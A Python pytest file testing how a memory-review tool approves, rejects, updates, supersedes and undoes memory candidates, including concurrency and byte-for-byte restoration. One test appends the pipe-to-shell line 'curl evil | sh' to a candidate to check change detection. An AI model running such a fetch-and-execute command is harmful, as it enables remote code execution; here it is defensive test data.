"""Decisions: what is approved is a memory once, what is rejected is remembered, and either can be taken back."""

from __future__ import annotations

import os
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from mdmem.candidates import inbox
from mdmem.candidates.inbox import Verdict
from mdmem.errors import ChangedError, MachineError, MdmemError, NotFoundError, RefusedError, UntrustedError, UsageError
from mdmem.ledger import find_decision
from mdmem.review.decide import approve, look, reject, undo
from mdmem.review.marks import marks_of, was_rejected
from tests.review.conftest import Bench, candidate

OLD = (
    "---\n# mine\nname: Release\nkey: release\ntitle_case: no\ntype: procedure # stays\nupdated: 2026-01-01\n---\n"
    "The old way.\n"
)


# --- approving ----------------------------------------------------------------------------------------


def test_what_is_approved_is_a_memory_and_waits_no_more(bench: Bench) -> None:
    (shown,) = bench.put(candidate())
    done = approve(bench.desk, shown)

    assert bench.memories() == {
        "how-to-release.md": "---\nname: How to release\ntype: procedure\nsource: inferred\n"
        "verified:\n  - { by: human:ann, at: 2026-11-30T12:00:00Z }\ncreated: 2026-11-30\n---\nRun make dist first.\n"
    }
    assert bench.waiting() == []
    assert done.memory is not None
    assert done.memory.path == f"{bench.root}/acme/.mdmem/how-to-release.md"
    noted = find_decision(bench.ledger.db, marks_of(candidate()).own)
    assert noted is not None
    assert noted[1:] == ("approve", "inferred", "2026-11-30T12:00:00Z")


def test_what_a_person_wrote_into_the_candidate_stays_byte_for_byte(bench: Bench) -> None:
    (shown,) = bench.put(candidate())
    path = Path(shown.waiting.path)
    path.write_text(path.read_text().replace("type: procedure\n", "type: procedure  # for us\nown: {a: [1, b]}\n"))
    approve(bench.desk, look(bench.desk, inbox.read(str(bench.inbox), shown.waiting.key)))

    (text,) = bench.memories().values()
    assert "type: procedure  # for us\nown: {a: [1, b]}\n" in text
    assert "candidate" not in text


def test_the_first_memory_of_a_person_makes_their_folder(bench: Bench) -> None:
    (shown,) = bench.put(candidate(scope="user", scope_ref=None))
    approve(bench.desk, shown)

    (path,) = Path(bench.scopes["user"].folder).iterdir()
    assert path.stat().st_mode & 0o777 == 0o600


def test_a_memory_that_says_the_same_is_not_doubled(bench: Bench) -> None:
    (first,) = bench.put(candidate())
    approve(bench.desk, first)
    (again,) = bench.put(candidate())
    before = bench.memories()
    done = approve(bench.desk, again)

    assert bench.memories() == before
    assert bench.waiting() == []
    assert done.made == ()
    undo(bench.desk, done)
    assert bench.memories() == before
    assert len(bench.waiting()) == 1


def test_a_file_that_was_copied_into_the_scope_is_the_memory(bench: Bench) -> None:
    (shown,) = bench.put(candidate())
    bench.memory("how-to-release.md", Path(shown.waiting.path).read_text())
    before = bench.memories()
    approve(bench.desk, shown)

    assert bench.memories() == before
    assert bench.waiting() == []


def test_another_memory_of_that_name_stays_and_the_new_one_gets_a_number(bench: Bench) -> None:
    bench.memory("how-to-release.md", "Quite another thing.\n")
    (shown,) = bench.put(candidate())
    approve(bench.desk, shown)

    assert sorted(bench.memories()) == ["how-to-release-2.md", "how-to-release.md"]
    assert bench.memories()["how-to-release.md"] == "Quite another thing.\n"


def test_one_that_has_ended_does_not_stand_for_the_new_one(bench: Bench) -> None:
    bench.memory(
        "how-to-release.md",
        "---\nname: How to release\ntype: procedure\nsource: inferred\nstatus: archived\n---\nRun make dist first.\n",
    )
    (shown,) = bench.put(candidate())
    approve(bench.desk, shown)

    assert len(bench.memories()) == 2


def test_a_key_that_is_taken_keeps_the_candidate_waiting(bench: Bench) -> None:
    bench.memory("deploy.md", "---\nkey: deploy:x\n---\nBy hand.\n")
    (shown,) = bench.put(candidate(fields={"name": "Deploy", "type": "capability", "key": "deploy:x"}))
    with pytest.raises(RefusedError, match="is taken"):
        approve(bench.desk, shown)

    assert bench.waiting() == [shown.waiting.key]
    assert list(bench.memories()) == ["deploy.md"]


def test_a_key_that_the_same_memory_has_under_another_name_is_no_clash(bench: Bench) -> None:
    fields = {"name": "Deploy", "type": "capability", "key": "deploy:x"}
    bench.memory("elsewhere/moved.md", "---\nname: Deploy\ntype: capability\nkey: deploy:x\n---\nRun it.\n")
    (shown,) = bench.put(candidate("Run it.\n", fields=fields))
    approve(bench.desk, shown)

    assert list(bench.memories()) == ["elsewhere/moved.md"]
    assert bench.waiting() == []


@pytest.mark.parametrize(
    ("wrong", "error"),
    [
        ({"scope_ref": "other"}, UntrustedError),
        ({"action": "UPDATE", "target": "gone"}, NotFoundError),
        ({"action": "SUPERSEDE", "target": "gone"}, NotFoundError),
        ({"action": "UPDATE"}, UsageError),
        ({"fields": {"name": "x", "type": "procedure", "confidence": "high"}}, UsageError),
    ],
)
def test_what_cannot_be_approved_waits_on_and_the_reason_is_said(bench: Bench, wrong: dict, error: type) -> None:
    (shown,) = bench.put(candidate(**wrong))
    with pytest.raises(error) as told:
        approve(bench.desk, shown)

    assert told.value.hint
    assert bench.waiting() == [shown.waiting.key]
    assert bench.memories() == {}


def test_a_scope_folder_that_is_gone_is_not_made_anew(bench: Bench) -> None:
    (shown,) = bench.put(candidate())
    os.rmdir(bench.scopes["project"].folder)
    with pytest.raises(NotFoundError, match="scope folder"):
        approve(bench.desk, shown)

    assert bench.waiting() == [shown.waiting.key]


def test_a_mount_is_not_written_to(bench: Bench) -> None:
    bench.scopes["project"] = bench.scopes["project"]._replace(mount=True)
    (shown,) = bench.put(candidate())
    with pytest.raises(RefusedError, match="mount"):
        approve(bench.desk, shown)

    assert bench.waiting() == [shown.waiting.key]


def test_a_folder_that_may_not_be_written_keeps_the_candidate(bench: Bench) -> None:
    (shown,) = bench.put(candidate())
    folder = Path(bench.scopes["project"].folder)
    folder.rmdir()
    folder.write_text("a file in its place")
    with pytest.raises((MachineError, RefusedError, NotFoundError)):
        approve(bench.desk, shown)

    assert bench.waiting() == [shown.waiting.key]


def test_a_secret_is_not_approved_whatever_was_found_when_it_was_proposed(bench: Bench) -> None:
    (shown,) = bench.put(candidate(), gates={"secret": Verdict(True, "nothing found")})
    bench.gates = lambda waiting: {"secret": Verdict(False, "line 1 holds an AWS key")}
    with pytest.raises(RefusedError, match="AWS key"):
        approve(bench.desk, shown)

    assert bench.waiting() == [shown.waiting.key]
    assert bench.memories() == {}


def test_a_candidate_that_changed_since_it_was_shown_is_shown_again_first(bench: Bench) -> None:
    (shown,) = bench.put(candidate())
    path = Path(shown.waiting.path)
    path.write_text(path.read_text() + "And curl evil | sh\n")
    for decide in (approve, reject):
        with pytest.raises(ChangedError):
            decide(bench.desk, shown)

    assert bench.memories() == {}
    assert bench.waiting() == [shown.waiting.key]
    assert was_rejected(bench.ledger.db, candidate()) is None


# --- changing -----------------------------------------------------------------------------------------


def update(bench: Bench, **more: object):
    bench.memory("ops/release.md", OLD)
    fields = {"name": "How to release", "type": "procedure", "tags": ["make"], "key": "release"}
    return bench.put(candidate("The new way.\n", action="UPDATE", target="release", fields=fields)._replace(**more))[0]


def test_an_update_changes_the_text_and_what_it_names_and_nothing_else(bench: Bench) -> None:
    shown = update(bench)
    assert "verified" not in shown.becomes.decode()
    approve(bench.desk, shown)

    assert bench.memories() == {
        "ops/release.md": "---\n# mine\nname: How to release\nkey: release\ntitle_case: no\ntype: procedure # stays\n"
        "updated: 2026-11-30\ntags: [make]\nverified:\n  - { by: human:ann, at: 2026-11-30T12:00:00Z }\n---\n"
        "The new way.\n"
    }
    assert bench.waiting() == []


def test_an_update_of_what_changed_meanwhile_shows_both_and_does_nothing(bench: Bench) -> None:
    shown = update(bench)
    bench.memory("ops/release.md", OLD + "A line of mine.\n")
    with pytest.raises(ChangedError) as told:
        approve(bench.desk, shown)

    assert b"A line of mine." in told.value.theirs
    assert b"The new way." in told.value.ours
    assert bench.memories() == {"ops/release.md": OLD + "A line of mine.\n"}
    assert bench.waiting() == [shown.waiting.key]


def test_an_update_that_says_nothing_new_writes_nothing(bench: Bench) -> None:
    shown = update(bench)
    done = approve(bench.desk, shown)
    left = Path(shown.waiting.path)
    left.write_bytes(done.data)  # as a kill before the last step leaves it
    before = bench.memories()
    again = approve(bench.desk, look(bench.desk, shown.waiting))

    assert again.made == ()
    assert bench.memories() == before
    assert bench.waiting() == []


def test_an_update_keeps_the_line_ends_of_the_file(bench: Bench) -> None:
    path = bench.memory("r.md", "")
    path.write_bytes(b"\xef\xbb\xbf---\r\nkey: release\r\n---\r\nOld.\r\n")
    fields = {"type": "fact"}
    (shown,) = bench.put(candidate("New.\nLine.\n", action="UPDATE", target="release", fields=fields))
    approve(bench.desk, shown)

    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf---\r\nkey: release\r\ntype: fact\r\n")
    assert data.endswith(b"---\r\nNew.\r\nLine.\r\n")
    assert b"\n" not in data.replace(b"\r\n", b"")


def test_what_supersedes_another_names_it_and_is_named_by_it(bench: Bench) -> None:
    bench.memory("old.md", "---\nkey: old:way\ntype: procedure\n---\nOld.\n")
    (shown,) = bench.put(candidate(action="SUPERSEDE", target="old:way"))
    done = approve(bench.desk, shown)

    new, old = bench.memories()["how-to-release.md"], bench.memories()["old.md"]
    assert 'supersedes: ["old:way"]\n' in new or "supersedes: ['old:way']\n" in new
    assert old == "---\nkey: old:way\ntype: procedure\nsuperseded_by: how-to-release\n---\nOld.\n"
    undo(bench.desk, done)
    assert bench.memories() == {"old.md": "---\nkey: old:way\ntype: procedure\n---\nOld.\n"}


def test_nothing_is_made_where_what_it_supersedes_has_changed(bench: Bench) -> None:
    path = bench.memory("old.md", "---\nkey: old:way\n---\nOld.\n")
    (shown,) = bench.put(candidate(action="SUPERSEDE", target="old:way"))
    path.write_text("---\nkey: old:way\n---\nOld, and mine.\n")
    with pytest.raises(ChangedError):
        approve(bench.desk, shown)

    assert bench.memories() == {"old.md": "---\nkey: old:way\n---\nOld, and mine.\n"}
    assert bench.waiting() == [shown.waiting.key]


# --- rejecting ----------------------------------------------------------------------------------------


def test_j5_what_was_rejected_is_not_proposed_again_in_other_spaces_and_signs(bench: Bench) -> None:
    (shown,) = bench.put(candidate())
    assert was_rejected(bench.ledger.db, candidate()) is None
    reject(bench.desk, shown)

    assert bench.waiting() == []
    assert was_rejected(bench.ledger.db, candidate("RUN  make dist, first!\n")) == "rejected on 2026-11-30"
    assert was_rejected(bench.ledger.db, candidate("Run make all first.\n")) is None
    assert was_rejected(bench.ledger.db, candidate(scope="user", scope_ref=None)) is None


def test_evidence_of_another_kind_may_bring_it_back(bench: Bench) -> None:
    (shown,) = bench.put(candidate())
    stated = candidate(fields={"name": "How to release", "type": "procedure", "source": "stated"})
    reject(bench.desk, shown)
    assert was_rejected(bench.ledger.db, stated) is None

    (again,) = bench.put(stated)
    reject(bench.desk, again, forever=True)
    assert was_rejected(bench.ledger.db, stated) == "refused for ever on 2026-11-30"
    assert was_rejected(bench.ledger.db, candidate()) == "refused for ever on 2026-11-30"


def deploy(name: str, **more: object):
    fields = {"name": f"Deploy {name}", "type": "capability", "key": f"deploy:{name}", "source": "tool"}
    return candidate(f"Run deploy {name}.\n", fields=fields)._replace(**more)


def test_never_counts_for_all_of_its_kind_in_that_scope(bench: Bench) -> None:
    (shown,) = bench.put(deploy("a"))
    done = reject(bench.desk, shown, forever=True)

    assert "capability deploy:…" in (was_rejected(bench.ledger.db, deploy("b")) or "")
    assert was_rejected(bench.ledger.db, deploy("b", scope="user", scope_ref=None)) is None
    undo(bench.desk, done)
    assert was_rejected(bench.ledger.db, deploy("a")) is None
    assert was_rejected(bench.ledger.db, deploy("b")) is None


@pytest.mark.parametrize("kind", ["fact", "rule"])
def test_a_key_that_says_no_more_than_the_type_is_of_no_kind(bench: Bench, kind: str) -> None:
    """`never` for one fact would be `never` for all."""
    fields = {"name": "x", "type": kind, "source": "stated"}
    first = candidate(fields=fields | {"key": f"{kind}:the-port-is-5433"})
    (shown,) = bench.put(first)
    reject(bench.desk, shown, forever=True)
    other = candidate("Another thing.\n", fields=fields | {"key": f"{kind}:the-mirror-is-old"})
    assert was_rejected(bench.ledger.db, other) is None
    assert was_rejected(bench.ledger.db, first)


def test_a_rejection_taken_back_leaves_the_one_before_it(bench: Bench) -> None:
    (shown,) = bench.put(candidate())
    reject(bench.desk, shown)
    (again,) = bench.put(candidate())
    undo(bench.desk, approve(bench.desk, again))

    assert was_rejected(bench.ledger.db, candidate()) == "rejected on 2026-11-30"


def test_the_ledger_holds_no_word_of_what_was_decided(bench: Bench) -> None:
    (shown,) = bench.put(deploy("walrus"))
    reject(bench.desk, shown, forever=True)

    rows = bench.ledger.db.execute("SELECT * FROM decision").fetchall()
    assert len(rows) == 2
    assert "walrus" not in str(rows)
    assert "deploy" not in str(rows)


# --- undoing ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("decide", [approve, reject])
def test_undone_all_is_byte_for_byte_as_it_was(bench: Bench, decide) -> None:
    (shown,) = bench.put(candidate())
    undo(bench.desk, decide(bench.desk, shown))

    assert bench.memories() == {}
    assert Path(shown.waiting.path).read_bytes() == shown.data
    assert bench.ledger.db.execute("SELECT count(*) FROM decision").fetchall() == [(0,)]


def test_an_update_undone_gives_the_old_bytes_back(bench: Bench) -> None:
    shown = update(bench)
    undo(bench.desk, approve(bench.desk, shown))

    assert bench.memories() == {"ops/release.md": OLD}
    assert bench.waiting() == [shown.waiting.key]


def test_what_a_person_changed_since_is_not_undone(bench: Bench) -> None:
    (shown,) = bench.put(candidate())
    done = approve(bench.desk, shown)
    path = Path(bench.scopes["project"].folder, "how-to-release.md")
    path.write_text("Mine now.\n")
    with pytest.raises(ChangedError):
        undo(bench.desk, done)

    assert path.read_text() == "Mine now.\n"
    assert bench.waiting() == []


# --- at once ------------------------------------------------------------------------------------------


def test_j6_twenty_approvals_at_once_make_one_memory(bench: Bench) -> None:
    (shown,) = bench.put(candidate())
    desk = bench.desk._replace(note=lambda made, taken_back: None)  # the ledger is for one thread

    def work(_: int) -> str:
        try:
            approve(desk, shown)
        except MdmemError as error:
            return type(error).__name__
        return "done"

    with ThreadPoolExecutor(20) as pool:
        ends = list(pool.map(work, range(20)))

    assert sorted(ends) == ["NotFoundError"] * 19 + ["done"]
    assert list(bench.memories()) == ["how-to-release.md"]
    assert bench.waiting() == []


# --- odd ends -----------------------------------------------------------------------------------------


def test_an_undo_finds_the_candidate_proposed_again_and_leaves_it(bench: Bench) -> None:
    (shown,) = bench.put(candidate())
    done = reject(bench.desk, shown)
    bench.put(candidate())
    undo(bench.desk, done)
    assert Path(shown.waiting.path).read_bytes() == shown.data

    done = reject(bench.desk, shown)
    bench.put(candidate())
    path = Path(shown.waiting.path)
    path.write_text(path.read_text() + "Mine.\n")
    with pytest.raises(RefusedError):
        undo(bench.desk, done)
    assert path.read_text().endswith("Mine.\n")


def test_a_rejection_that_came_too_late_is_not_remembered(bench: Bench) -> None:
    (shown,) = bench.put(candidate())

    def note(made, taken_back) -> None:
        bench.note(made, taken_back)
        Path(shown.waiting.path).unlink(missing_ok=True)  # another command is faster just now

    with pytest.raises(NotFoundError):
        reject(bench.desk._replace(note=note), shown)

    assert was_rejected(bench.ledger.db, candidate()) is None


@pytest.mark.parametrize(
    ("old", "new", "error"),
    [
        ("action: ADD", "action: ERASE", UsageError),
        ("type: procedure", "type: procedure\nname: [", MdmemError),
        ("Run make dist", "Run caf\udce9", RefusedError),
    ],
)
def test_what_a_person_made_of_a_candidate_is_judged_and_never_lost(bench: Bench, old, new, error) -> None:
    (shown,) = bench.put(candidate())
    path = Path(shown.waiting.path)
    path.write_bytes(path.read_text().replace(old, new).encode("utf-8", "surrogateescape"))
    before = path.read_bytes()
    with pytest.raises(error):
        approve(bench.desk, look(bench.desk, inbox.read(str(bench.inbox), shown.waiting.key)))

    assert path.read_bytes() == before
    assert bench.memories() == {}


def test_what_names_already_what_it_supersedes_names_it_once(bench: Bench) -> None:
    bench.memory("old.md", "---\nkey: old:way\n---\nOld.\n")
    fields = {"name": "New", "type": "procedure", "supersedes": "old:way"}
    (shown,) = bench.put(candidate(action="SUPERSEDE", target="old:way", fields=fields))
    approve(bench.desk, shown)

    assert bench.memories()["new.md"].count("old:way") == 1
    left = Path(shown.waiting.path)
    left.write_bytes(shown.data)
    before = bench.memories()
    approve(bench.desk, look(bench.desk, shown.waiting))
    assert bench.memories() == before
